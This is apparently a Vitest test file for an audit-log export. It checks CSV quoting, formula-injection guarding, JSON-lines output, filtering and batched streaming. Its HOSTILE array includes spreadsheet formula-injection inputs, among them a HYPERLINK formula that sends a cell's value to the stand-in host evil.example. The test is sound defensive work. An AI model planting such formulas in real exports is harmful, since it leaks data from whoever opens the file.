import { execFileSync } from "node:child_process";
import crypto from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "../db";
import { auditExportStream, csvCell } from "./export";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  'comma, "quotes" and\r\nCRLF\nLF',
  "ünïcødé \u2028 line separator",
  "",
];

async function put(i: number, actor: string, targetId: string, after: unknown) {
  const h = () => crypto.randomBytes(32).toString("hex");
  await db().auditEvent.create({ data: { at: new Date(Date.UTC(2026, 10, 1, 0, 0, i)), actor, action: "proxy.register", targetType: "proxy", targetId, before: null, after: JSON.stringify(after), prevHash: h(), hash: h() } });
}

beforeAll(async () => {
  for (const [i, s] of HOSTILE.entries()) await put(i, `user:${s}`, s, { name: s });
  await put(99, "system:crl", "i-1", { crlNumber: 1 });
});

/** Python's csv module, an independent RFC 4180 reader. */
function pythonCsv(text: string): string[][] {
  const out = execFileSync("python3", ["-c", "import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline='')))))"], { input: text });
  return JSON.parse(out.toString());
}

const exported = (format: "csv" | "jsonl", filter = {}) => new Response(auditExportStream(filter, format)).text();

describe("audit export", () => {
  it("CSV: every hostile string survives a real CSV reader, and no cell starts a formula", async () => {
    const rows = pythonCsv(await exported("csv", { actor: "user:" }));
    expect(rows[0]).toEqual(["seq", "at", "actor", "action", "label", "targetType", "targetId", "before", "after", "prevHash", "hash"]);
    const body = rows.slice(1);
    expect(body).toHaveLength(HOSTILE.length);
    for (const [i, s] of HOSTILE.entries()) {
      const row = body[i];
      expect(row).toHaveLength(11);
      const guarded = /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
      expect(row[6]).toBe(guarded);
      expect(row[2]).toBe(`user:${s}`);
      expect(JSON.parse(row[8])).toEqual({ name: s });
      expect(row[4]).toBe("registered proxy");
    }
    for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("csvCell quotes only what needs it", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell(12)).toBe("12");
    expect(csvCell(null)).toBe("");
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell("=1,2")).toBe(`"'=1,2"`);
  });

  it("JSON lines: one entry per line, before/after as JSON, the filter applied", async () => {
    const text = await exported("jsonl");
    const lines = text.split("\n");
    expect(lines.pop()).toBe("");
    expect(lines).toHaveLength(HOSTILE.length + 1);
    const entries = lines.map((l) => JSON.parse(l));
    expect(entries.map((e) => e.targetId)).toEqual([...HOSTILE, "i-1"]);
    expect(entries[0]).toMatchObject({ action: "proxy.register", label: "registered proxy", targetType: "proxy", after: { name: HOSTILE[0] }, before: null });
    expect(entries[0].at).toBe("2026-11-01T00:00:00.000Z");
    expect(entries[0].hash).toMatch(/^[0-9a-f]{64}$/);
    const only = (await exported("jsonl", { actor: "system:" })).trim().split("\n").map((l) => JSON.parse(l));
    expect(only.map((e) => e.targetId)).toEqual(["i-1"]);
  });

  it("streams an export larger than one batch in order, header once", async () => {
    const h = () => crypto.randomBytes(32).toString("hex");
    const at = new Date(Date.UTC(2026, 10, 2));
    await db().auditEvent.createMany({ data: Array.from({ length: 1200 }, (_, i) => ({ at, actor: "cli:bulk", action: "certificate.issue", targetType: "certificate", targetId: `bulk-${i}`, before: null, after: null, prevHash: h(), hash: h() })) });
    const rows = pythonCsv(await exported("csv", { actor: "cli:bulk" }));
    expect(rows).toHaveLength(1201);
    expect(rows.filter((r) => r[0] === "seq")).toHaveLength(1);
    expect(rows.slice(1).map((r) => r[6])).toEqual(Array.from({ length: 1200 }, (_, i) => `bulk-${i}`));
  });
});
